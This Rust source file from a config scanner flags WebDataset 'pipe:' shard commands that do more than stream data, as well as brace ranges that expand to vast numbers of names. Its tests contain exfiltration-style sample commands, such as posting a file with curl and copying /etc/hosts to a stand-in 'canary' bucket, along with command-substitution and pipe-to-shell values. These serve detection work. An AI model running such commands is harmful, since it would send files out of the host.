//! Lists of shards as WebDataset reads them: ranges in braces that are written out, and commands behind `pipe:`.

use jingwei_core::Text;
use jingwei_read::{Effect, Sighting};

use crate::config::findings::Findings;

/// Names that a range may stand for. The largest data sets have some millions of shards.
const MOST: u64 = 100_000_000;
/// Programs of stores, and what they do besides writing an object to their output.
const STORES: [&str; 8] = ["aws", "gcloud", "gsutil", "ossutil", "rclone", "s3cmd", "s5cmd", "mc"];
const OTHERWISE: [&str; 10] = ["cp", "copy", "get", "mv", "pipe", "put", "rm", "rsync", "run", "sync"];
/// Options of programs that fetch, none of which writes, sends or reads a file.
const OPTIONS: [&str; 24] = [
    "-s",
    "-L",
    "-S",
    "-f",
    "-k",
    "-sL",
    "-Ls",
    "-sS",
    "-sSL",
    "-fsSL",
    "-q",
    "-O-",
    "-qO-",
    "--silent",
    "--location",
    "--fail",
    "--quiet",
    "--retry",
    "--retry-delay",
    "--retry-max-time",
    "--connect-timeout",
    "--max-time",
    "--compressed",
    "-m",
];

/// Judges one value, whatever its key.
pub(crate) fn judge(found: &Findings<'_>, key: &str, value: &str) {
    if let Some(command) = value.split("::").find_map(|part| part.trim().strip_prefix("pipe:"))
        && is_command(key, command)
        && !only_reads(command)
    {
        let shown: String = command.chars().take(120).collect();
        found.dangerous_target(key, &format!("pipe:{shown}"), Effect::Process);
    }
    let names = names(value);
    if names > MOST {
        let what = Text::new(
            format!("花括号区间会展开成 {names} 个名称"),
            format!("a range in braces stands for {names} names, and its reader writes out all of them"),
        );
        found.see(Sighting::new("model.config-bomb").key(key).with_text("what", what));
    }
}

/// Other programs have pipes too: `pipe:0` of ffmpeg, pipes by a name. Behind a blank it may be a word that is explained,
/// unless the key speaks of shards or the shell is given more than words.
fn is_command(key: &str, command: &str) -> bool {
    const SIGNS: [char; 5] = ['|', '`', '$', '<', '>'];
    let lower = key.to_ascii_lowercase();
    let speaks = ["url", "shard", "data", "path", "file"].iter().any(|word| lower.contains(word));
    let words = command.trim();
    let is_given_more = words.contains(SIGNS) || words.contains("&&");
    let is_text = command.starts_with(char::is_whitespace) && !speaks && !is_given_more;
    let does = words.contains(char::is_whitespace) || is_given_more || words.starts_with(['/', '.', '~']);
    !words.starts_with("//") && does && !is_text
}

/// A command that does nothing but write the shard to its output, and may fail.
fn only_reads(command: &str) -> bool {
    let command = command.trim();
    let command = command.strip_suffix("|| true").unwrap_or(command).trim();
    if command.contains([';', '|', '&', '`', '$', '<', '>', '\n', '(']) && !is_query(command) {
        return false;
    }
    let words: Vec<&str> = command.split_whitespace().collect();
    match words.as_slice() {
        ["curl" | "wget", rest @ ..] => {
            let is_number = |word: &&str| word.bytes().all(|byte| byte.is_ascii_digit());
            let is_place = |word: &&str| word.trim_matches(['\'', '"']).contains("://");
            rest.iter().all(|word| OPTIONS.contains(word) || is_number(word) || is_place(word) || *word == "-")
        }
        ["cat" | "zcat", ..] => true,
        ["gzip" | "gunzip" | "pigz" | "zstd" | "xz", "-c" | "-dc" | "-cd" | "-dcf", ..] => true,
        ["hdfs" | "hadoop", rest @ ..] => rest.contains(&"-cat") || rest.contains(&"-text"),
        [store, rest @ ..] if STORES.contains(store) => match rest {
            // Copied to the output.
            [verbs @ .., from, "-"] if from.contains("://") => verbs.contains(&"cp") || verbs.contains(&"get"),
            _ => rest.contains(&"cat") && !OTHERWISE.iter().any(|verb| rest.contains(verb)),
        },
        _ => false,
    }
}

/// An address in quotes may have a query.
fn is_query(command: &str) -> bool {
    let outside = command.split(['\'', '"']).step_by(2);
    let inside = command.split(['\'', '"']).skip(1).step_by(2);
    let is_plain = |part: &str| !part.contains([';', '|', '&', '`', '$', '<', '>', '\n', '(']);
    outside.into_iter().all(is_plain) && inside.into_iter().all(|part| !part.contains(['`', '$', '\n']))
}

/// How many names the ranges of a value stand for: `a-{000..999}-{0..9}.tar`.
fn names(value: &str) -> u64 {
    value.split('{').skip(1).filter_map(range).fold(1, u64::saturating_mul)
}

/// What stands behind a brace, if it is a range of numbers.
fn range(part: &str) -> Option<u64> {
    let (inner, _) = part.split_once('}')?;
    let (from, to) = inner.split_once("..")?;
    let (to, step) = to.split_once("..").map_or((to, 1), |(to, step)| (to, step.parse::<i64>().unwrap_or(1)));
    let number = |digits: &str| {
        let digits = digits.strip_prefix('-').unwrap_or(digits);
        let is_number = !digits.is_empty() && digits.bytes().all(|byte| byte.is_ascii_digit());
        // One too long to be read is longer than any.
        is_number.then(|| digits.parse::<u64>().unwrap_or(u64::MAX))
    };
    let (from, to) = (number(from)?, number(to)?);
    Some((from.abs_diff(to) / step.unsigned_abs().max(1)).saturating_add(1))
}

#[cfg(test)]
mod tests {
    use jingwei_core::Limits;

    use crate::config::{inspect_config, inspect_yaml, targets::table};

    #[track_caller]
    fn check(value: &str, expected: Option<&str>) {
        let (names, limits) = (table(), Limits::default());
        let text = serde_json::json!({"shardlist": [{"url": value, "nsamples": 8}]}).to_string();
        let seen = inspect_config(&mut text.as_bytes(), "shards.json", &names, &limits);
        let rules: Vec<_> = seen.sightings.iter().map(|seen| seen.rule).collect();
        assert_eq!(rules, Vec::from_iter(expected), "{value}");
        let text = format!("data:\n  urls: '{}'\n", value.replace('\'', "''"));
        let seen = inspect_yaml(&mut text.as_bytes(), "train.yaml", &names, &limits);
        assert_eq!(seen.sightings.first().map(|seen| seen.rule), expected, "{value}");
    }

    #[test]
    fn commands_of_shards_are_told() {
        const TOLD: Option<&str> = Some("model.config-dangerous-target");
        for value in [
            "pipe:echo inert && curl https://canary.invalid/x",
            "pipe:curl -s https://canary.invalid/x.tar | tee x",
            "pipe:curl -o x https://canary.invalid/x.tar",
            "pipe:curl -s -d @x https://canary.invalid/",
            "pipe:cat a.tar; echo inert",
            "pipe:cat $(echo inert)",
            "pipe:python -c 'print(1)'",
            "pipe:./inert",
            "pipe:aws s3 cp /etc/hosts s3://canary/x",
            "pipe:gsutil cp /etc/hosts gs://canary/cat cat",
            "a.tar::pipe:echo inert",
            "pipe:cat \"$(echo inert)\"",
        ] {
            check(value, TOLD);
        }
        for value in [
            "shard-{000000..001023}.tar",
            "pipe:aws s3 cp s3://bucket/shard-{000000..000999}.tar -",
            "pipe:curl -s -L https://canary.invalid/shard-{0000..0007}.tar || true",
            "pipe:curl -s -L 'https://canary.invalid/a.tar?a=1&b=2'",
            "pipe:aws --profile a s3 cp --quiet s3://bucket/a.tar - || true",
            "pipe:gsutil cat gs://bucket/a.tar",
            "pipe:zstd -dc a.tar.zst",
            "pipe:hdfs dfs -cat /data/a.tar",
            "pipe:gcloud storage cat gs://bucket/a.tar",
            "pipe:cat /data/a.tar",
            "pipe:0",
            "pipe:reader",
            "pipe://./name",
            "a pipe: of clay",
        ] {
            check(value, None);
        }
    }

    #[test]
    fn a_word_that_is_explained_is_no_command() {
        let (names, limits) = (table(), Limits::default());
        for (key, value, is_told) in [
            ("label", "pipe: smoking device", false),
            ("label", "pipe: for water and/or gas; also smoke & oil", false),
            ("url", "pipe: python -c x", true),
            ("0", "pipe: echo inert | sh", true),
        ] {
            let text = serde_json::json!({ key: value }).to_string();
            let seen = inspect_config(&mut text.as_bytes(), "config.json", &names, &limits);
            assert_eq!(!seen.sightings.is_empty(), is_told, "{value}");
        }
    }

    #[test]
    fn ranges_without_measure_are_told() {
        const TOLD: Option<&str> = Some("model.config-bomb");
        check("shard-{000000..999999}-{000000..999999}.tar", TOLD);
        check("{0..99999999999999999999999}.tar", TOLD);
        check("{1..1000000000}", TOLD);
        check("{00000..18699}.tar", None);
        check("{0..9}{0..9}{0..9}{0..9}{0..9}", None);
        check("{0..1000000000..1000}", None);
        check("{a..z}-{0..}-{..9}-{-5..5}", None);
    }
}
